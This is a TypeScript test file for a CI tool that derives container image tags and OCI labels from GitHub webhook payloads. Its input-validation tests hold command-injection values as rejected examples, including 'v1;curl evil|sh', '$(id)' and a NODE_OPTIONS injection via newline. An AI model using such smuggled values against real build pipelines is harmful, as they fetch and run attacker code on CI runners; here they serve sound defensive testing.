import { describe, expect, it } from 'vitest';
import { eventContextFromGithub, localEventContext, repositoryFromRemoteUrl, withRepositoryFromEnv } from '../../src/domain/event-context.ts';
import { computeTags, DEFAULT_TAG_POLICY, sanitizeTag } from '../../src/domain/tags.ts';
import type { TagPolicy } from '../../src/domain/tags.ts';
import { InputError } from '../../src/domain/errors.ts';
import { example, examples, schedulePayload } from './webhook-examples.ts';

// The Codertocat/Hello-World pull request #2 in the examples: head ec26c3e…, merge c4295bd…
// (its merge_commit_sha in the payloads that carry one), base f95f852….
const HEAD = 'ec26c3e57ca3a959ca5aad62de7213c562f8c821';
const MERGE = 'c4295bd74fb0f4fda03689c3df3f2803b658fd85';
const BASE = 'f95f852bd8fca8fcc58a9a2d6c842781e32a215e';
const PUSHED = '6113728f27ae82c7b1a177c8d03f9e96e0adf246';

function tagsOf(eventName: string, payload: unknown, ref: string, sha: string, policy: Partial<TagPolicy> = {}) {
  return computeTags(eventContextFromGithub(eventName, payload, ref, sha), { ...DEFAULT_TAG_POLICY, ...policy });
}
const names = (r: ReturnType<typeof computeTags>) => r.tags.map((t) => t.tag);

function expectInputError(fn: () => unknown, input: string, message: RegExp): void {
  let thrown: unknown;
  try { fn(); } catch (e) { thrown = e; }
  expect(thrown).toBeInstanceOf(InputError);
  expect((thrown as InputError).input).toBe(input);
  expect((thrown as Error).message).toMatch(message);
}

describe('pull_request (real payloads)', () => {
  it.each(['opened', 'synchronize'])('%s → pr-<N> and sha-<7> of the head commit, labels keep both SHAs', (action) => {
    const payload = example('pull_request', action);
    // The runner checks out refs/pull/2/merge and sets GITHUB_SHA to the merge commit.
    const r = tagsOf('pull_request', payload, 'refs/pull/2/merge', MERGE);
    expect(names(r)).toEqual(['pr-2', 'sha-ec26c3e']);
    expect(r.primary).toBe('pr-2');
    expect(r.tags[1]!.reason).toMatch(/head commit ec26c3e of pull request #2/);
    expect(r.labels).toMatchObject({
      'dev.trunkline.pr.number': '2',
      'dev.trunkline.pr.head-sha': HEAD,
      'dev.trunkline.pr.merge-sha': MERGE,
      'org.opencontainers.image.revision': MERGE,
      'org.opencontainers.image.version': 'pr-2',
      'org.opencontainers.image.source': 'https://github.com/Codertocat/Hello-World',
      'org.opencontainers.image.title': 'Hello-World',
    });
    expect(r.notes.join('\n')).toMatch(/No latest/);
  });

  it('pr-sha: merge names the merge commit instead', () => {
    const r = tagsOf('pull_request', example('pull_request', 'opened'), 'refs/pull/2/merge', MERGE, { prSha: 'merge' });
    expect(names(r)).toEqual(['pr-2', 'sha-c4295bd']);
  });

  it('pull_request_target: GITHUB_SHA is the base branch, so the merge SHA comes from the payload', () => {
    const payload = example('pull_request', 'assigned');
    expect((payload.pull_request as { merge_commit_sha: string }).merge_commit_sha).toBe(MERGE);
    const head = tagsOf('pull_request_target', payload, 'refs/heads/master', BASE);
    expect(names(head)).toEqual(['pr-2', 'sha-ec26c3e']);
    expect(head.notes.join('\n')).toMatch(/pull_request_target runs with the base repository's secrets/);
    expect(names(tagsOf('pull_request_target', payload, 'refs/heads/master', BASE, { prSha: 'merge' }))).toEqual(['pr-2', 'sha-c4295bd']);
    // "opened" carries merge_commit_sha: null (GitHub computes it later): merge mode cannot work.
    expectInputError(() => tagsOf('pull_request_target', example('pull_request', 'opened'), 'refs/heads/master', BASE, { prSha: 'merge' }), 'pr-sha', /no merge commit/);
  });

  it('every real pull_request example (29 actions) gives pr-2 and the head SHA', () => {
    const all = examples('pull_request');
    expect(all.length).toBeGreaterThan(20);
    for (const payload of all) expect(names(tagsOf('pull_request', payload, 'refs/pull/2/merge', MERGE))).toEqual(['pr-2', 'sha-ec26c3e']);
  });
});

describe('push (real payloads)', () => {
  const toMaster = () => example('push', (p) => p.ref === 'refs/heads/master');

  it('to the default branch → sha-<7> (primary) and latest; created is the commit time', () => {
    const payload = toMaster();
    const r = tagsOf('push', payload, 'refs/heads/master', PUSHED);
    expect(names(r)).toEqual(['sha-6113728', 'latest']);
    expect(r.primary).toBe('sha-6113728');
    expect(r.tags[1]!.reason).toBe('push to the default branch master');
    expect(r.labels).toEqual({
      'org.opencontainers.image.created': '2019-05-15T15:19:25Z',
      'org.opencontainers.image.revision': PUSHED,
      'org.opencontainers.image.source': 'https://github.com/Codertocat/Hello-World',
      'org.opencontainers.image.title': 'Hello-World',
      'org.opencontainers.image.url': 'https://github.com/Codertocat/Hello-World',
      'org.opencontainers.image.version': 'sha-6113728',
    });
  });

  it('branch-tag adds the default branch name; latest: false removes latest', () => {
    expect(names(tagsOf('push', toMaster(), 'refs/heads/master', PUSHED, { branchTag: true }))).toEqual(['sha-6113728', 'latest', 'master']);
    expect(names(tagsOf('push', toMaster(), 'refs/heads/master', PUSHED, { latest: 'false' }))).toEqual(['sha-6113728']);
  });

  it('the default branch comes from the payload, never assumed to be main', () => {
    const payload = toMaster();
    // The real payload says master: a push to "main" there is just another branch.
    expect(names(tagsOf('push', { ...payload, ref: 'refs/heads/main' }, 'refs/heads/main', PUSHED))).toEqual(['sha-6113728', 'main']);
    (payload.repository as Record<string, unknown>).default_branch = 'trunk';
    expect(names(tagsOf('push', { ...payload, ref: 'refs/heads/trunk' }, 'refs/heads/trunk', PUSHED))).toEqual(['sha-6113728', 'latest']);
    const noDefault = toMaster();
    delete (noDefault.repository as Record<string, unknown>).default_branch;
    delete (noDefault.repository as Record<string, unknown>).master_branch;
    const r = tagsOf('push', noDefault, 'refs/heads/master', PUSHED);
    expect(names(r)).toEqual(['sha-6113728', 'master']);
    expect(r.notes.join('\n')).toMatch(/names no default branch/);
  });

  it('to another branch → sha-<7> and the sanitized branch name, no latest', () => {
    const payload = { ...toMaster(), ref: 'refs/heads/feature/Login form' };
    const r = tagsOf('push', payload, 'refs/heads/feature/Login form', PUSHED);
    expect(names(r)).toEqual(['sha-6113728', 'feature-Login-form']);
    expect(r.notes.join('\n')).toMatch(/"feature\/Login form" was sanitized to feature-Login-form/);
    expect(names(tagsOf('push', payload, 'refs/heads/feature/Login form', PUSHED, { latest: 'true' }))).toEqual(['sha-6113728', 'feature-Login-form', 'latest']);
  });

  it('a non-semver tag push (real "simple-tag") → the tag name', () => {
    const payload = example('push', (p) => p.ref === 'refs/tags/simple-tag' && p.created === true);
    const r = tagsOf('push', payload, 'refs/tags/simple-tag', PUSHED);
    expect(names(r)).toEqual(['simple-tag']);
    expect(r.primary).toBe('simple-tag');
  });

  it('a v1.2.3 tag push → 1.2.3, 1.2, 1, latest', () => {
    const payload = { ...example('push', (p) => p.ref === 'refs/tags/simple-tag'), ref: 'refs/tags/v1.2.3' };
    const r = tagsOf('push', payload, 'refs/tags/v1.2.3', PUSHED);
    expect(names(r)).toEqual(['1.2.3', '1.2', '1', 'latest']);
    expect(r.version).toBe('1.2.3');
    expect(r.labels['org.opencontainers.image.version']).toBe('1.2.3');
    expect(r.notes.join('\n')).toMatch(/No release history was given/);
  });

  it('floating tags and latest go only to the highest release of their line', () => {
    const payload = { ...toMaster(), ref: 'refs/tags/v1.2.3' };
    const known = ['v1.2.0', 'v1.3.0', 'v2.0.0-rc.1', 'not-a-version', 'v1.2.3'];
    const r = tagsOf('push', payload, 'refs/tags/v1.2.3', PUSHED, { knownVersions: known });
    expect(names(r)).toEqual(['1.2.3', '1.2']);
    expect(r.notes.join('\n')).toMatch(/No 1 tag: a higher 1\.x release exists/);
    expect(r.notes.join('\n')).toMatch(/No latest: a higher release than 1\.2\.3 exists/);
    expect(names(tagsOf('push', payload, 'refs/tags/v1.2.3', PUSHED, { knownVersions: ['1.2.4'] }))).toEqual(['1.2.3']);
    // A prerelease of a higher version does not block latest.
    expect(names(tagsOf('push', payload, 'refs/tags/v1.2.3', PUSHED, { knownVersions: ['2.0.0-rc.1', '1.0.0'] }))).toEqual(['1.2.3', '1.2', '1', 'latest']);
  });

  it('a prerelease tag gets only its full version, even with latest: true', () => {
    const payload = { ...toMaster(), ref: 'refs/tags/v2.0.8-beta.67' };
    const r = tagsOf('push', payload, 'refs/tags/v2.0.8-beta.67', PUSHED, { latest: 'true' });
    expect(names(r)).toEqual(['2.0.8-beta.67']);
    expect(r.notes.join('\n')).toMatch(/prerelease: no floating tags and no latest/);
  });

  it('build metadata is dropped (+ is not allowed in a tag) and said so', () => {
    const ref = 'refs/tags/v9.5.7-alpha.2+fork.3.1.8';
    const r = tagsOf('push', { ...toMaster(), ref }, ref, PUSHED);
    expect(names(r)).toEqual(['9.5.7-alpha.2']);
    expect(r.notes.join('\n')).toMatch(/Build metadata "\+fork\.3\.1\.8" dropped/);
  });

  it('a release/1.4.0 branch → its version', () => {
    const ref = 'refs/heads/release/1.4.0';
    expect(names(tagsOf('push', { ...toMaster(), ref }, ref, PUSHED))).toEqual(['1.4.0', '1.4', '1', 'latest']);
    // release/ followed by something that is no version is an ordinary branch.
    const other = 'refs/heads/release/next';
    expect(names(tagsOf('push', { ...toMaster(), ref: other }, other, PUSHED))).toEqual(['sha-6113728', 'release-next']);
  });
});

describe('release (real payloads)', () => {
  it('published 0.0.1 → 0.0.1, 0.0, latest (no "0" tag for 0.x)', () => {
    const r = tagsOf('release', example('release', 'published'), 'refs/tags/0.0.1', PUSHED);
    expect(names(r)).toEqual(['0.0.1', '0.0', 'latest']);
    expect(r.primary).toBe('0.0.1');
    expect(r.notes.join('\n')).toMatch(/No "0" tag/);
  });

  it('prereleased (release marked prerelease) → only the full version', () => {
    const payload = example('release', 'prereleased');
    expect((payload.release as { prerelease: boolean }).prerelease).toBe(true);
    const r = tagsOf('release', payload, 'refs/tags/0.0.1', PUSHED);
    expect(names(r)).toEqual(['0.0.1']);
    expect(r.notes.join('\n')).toMatch(/the release is marked prerelease/);
  });

  it('a release payload without tag_name reads the tag from GITHUB_REF, not sha-<7>', () => {
    const payload = example('release', 'published');
    const release = { ...(payload.release as Record<string, unknown>) };
    delete release.tag_name;
    const r = tagsOf('release', { ...payload, release }, 'refs/tags/v2.3.4', PUSHED);
    expect(names(r)).toEqual(['2.3.4', '2.3', '2', 'latest']);
    expect(r.primary).toBe('2.3.4');
    // And with no release object at all.
    expect(tagsOf('release', {}, 'refs/tags/v2.3.4', PUSHED).primary).toBe('2.3.4');
  });
});

describe('other events', () => {
  it('workflow_dispatch (real) is classified by its ref like a push', () => {
    for (const payload of examples('workflow_dispatch')) {
      const ref = payload.ref as string;
      expect(names(tagsOf('workflow_dispatch', payload, ref, PUSHED))).toEqual(['sha-6113728', 'latest']);
    }
    const onTag = example('workflow_dispatch');
    expect(names(tagsOf('workflow_dispatch', onTag, 'refs/tags/v3.1.0', PUSHED))).toEqual(['3.1.0', '3.1', '3', 'latest']);
  });

  it('schedule → nightly', () => {
    const r = tagsOf('schedule', schedulePayload, 'refs/heads/master', PUSHED);
    expect(names(r)).toEqual(['nightly']);
    expect(r.labels['org.opencontainers.image.revision']).toBe(PUSHED);
  });

  it('any other event → sha-<7>, never an empty list', () => {
    for (const event of ['issues', 'create', 'deployment', 'merge_group']) {
      const payload = event === 'merge_group' ? {} : example(event);
      const r = tagsOf(event, payload, '', PUSHED);
      expect(names(r)).toEqual(['sha-6113728']);
    }
  });

  it('a local checkout counts as a push to its default branch', () => {
    const r = computeTags(localEventContext({ sha: PUSHED, commitTime: '2024-03-01T10:00:00+01:00', branch: 'trunk' }));
    expect(names(r)).toEqual(['sha-6113728', 'latest']);
    expect(r.labels['org.opencontainers.image.created']).toBe('2024-03-01T09:00:00Z');
  });
});

describe('inputs that add tags are validated and named', () => {
  const payload = () => example('push', (p) => p.ref === 'refs/heads/master');
  it('tag becomes the primary tag, first in the list', () => {
    const r = tagsOf('push', payload(), 'refs/heads/master', PUSHED, { tag: 'v7', extraTags: ['stable', 'latest'] });
    expect(names(r)).toEqual(['v7', 'sha-6113728', 'latest', 'stable']);
    expect(r.primary).toBe('v7');
    expect(r.tags.find((t) => t.tag === 'latest')!.reason).toBe('push to the default branch master; input extra-tags');
  });

  it.each([
    ['x'.repeat(129), /is 129 characters long/],
    ['v1;curl evil|sh', /contains ";"/],
    ['v1\nNODE_OPTIONS=--require=/tmp/p', /must be a single tag on one line/],
    ['.hidden', /starts with "\."/],
    ['$(id)', /starts with "\$"/],
  ])('tag %j is refused', (tag, message) => {
    expectInputError(() => tagsOf('push', payload(), 'refs/heads/master', PUSHED, { tag }), 'tag', message);
  });

  it('extra-tags entries are refused naming extra-tags', () => {
    expectInputError(() => tagsOf('push', payload(), 'refs/heads/master', PUSHED, { extraTags: ['ok', 'bad`tick`'] }), 'extra-tags', /contains "`"/);
  });

  it('label overrides replace generated labels by key; a newline in a value is refused', () => {
    const r = tagsOf('push', payload(), 'refs/heads/master', PUSHED, { labels: { licenses: 'Apache-2.0', overrides: { 'org.opencontainers.image.title': 'hello' } } });
    expect(r.labels['org.opencontainers.image.licenses']).toBe('Apache-2.0');
    expect(r.labels['org.opencontainers.image.title']).toBe('hello');
    expectInputError(() => tagsOf('push', payload(), 'refs/heads/master', PUSHED, { labels: { overrides: { a: 'x\ny' } } }), 'labels', /line break/);
  });
});

describe('sanitizeTag', () => {
  it.each([
    ['feature/x', 'feature-x'],
    ['-lead', 'lead'],
    ['..dots', 'dots'],
    ['ünï', 'n'],
    ['///', undefined],
    ['a'.repeat(200), 'a'.repeat(128)],
  ])('%j → %j', (input, out) => expect(sanitizeTag(input)).toBe(out));
});

describe('withRepositoryFromEnv', () => {
  it('gives a schedule run its source label from GITHUB_REPOSITORY, keeping payload facts first', () => {
    const ctx = withRepositoryFromEnv(eventContextFromGithub('schedule', schedulePayload, 'refs/heads/master', PUSHED), { GITHUB_REPOSITORY: 'octo-org/octo-repo', GITHUB_SERVER_URL: 'https://github.com' });
    expect(computeTags(ctx).labels['org.opencontainers.image.source']).toBe('https://github.com/octo-org/octo-repo');
    const fromPayload = withRepositoryFromEnv(eventContextFromGithub('push', example('push'), 'refs/heads/master', PUSHED), { GITHUB_REPOSITORY: 'other/repo' });
    expect(fromPayload.repository.htmlUrl).toBe('https://github.com/Codertocat/Hello-World');
  });
});

describe('repositoryFromRemoteUrl', () => {
  it.each([
    ['https://github.com/acme/sample.git', 'https://github.com/acme/sample'],
    ['https://x-access-token:ghs_secret@github.com/acme/sample', 'https://github.com/acme/sample'],
    ['git@github.com:acme/sample.git', 'https://github.com/acme/sample'],
    ['ssh://git@gitlab.example.com:2222/acme/sample.git', 'https://gitlab.example.com/acme/sample'],
  ])('%s → %s (no credentials)', (url, html) => {
    const info = repositoryFromRemoteUrl(url);
    expect(info.htmlUrl).toBe(html);
    expect(JSON.stringify(info)).not.toMatch(/secret|x-access-token/);
  });
  it('a local path gives nothing', () => {
    expect(repositoryFromRemoteUrl('/srv/git/flux.git')).toEqual({});
  });
});

describe('labels from payload text', () => {
  it('a repository description with line breaks is flattened, not refused', () => {
    const payload = example('push', (p) => p.ref === 'refs/heads/master');
    (payload.repository as Record<string, unknown>).description = 'Line one\r\nLine two\n';
    const r = tagsOf('push', payload, 'refs/heads/master', PUSHED);
    expect(r.labels['org.opencontainers.image.description']).toBe('Line one Line two');
  });
});
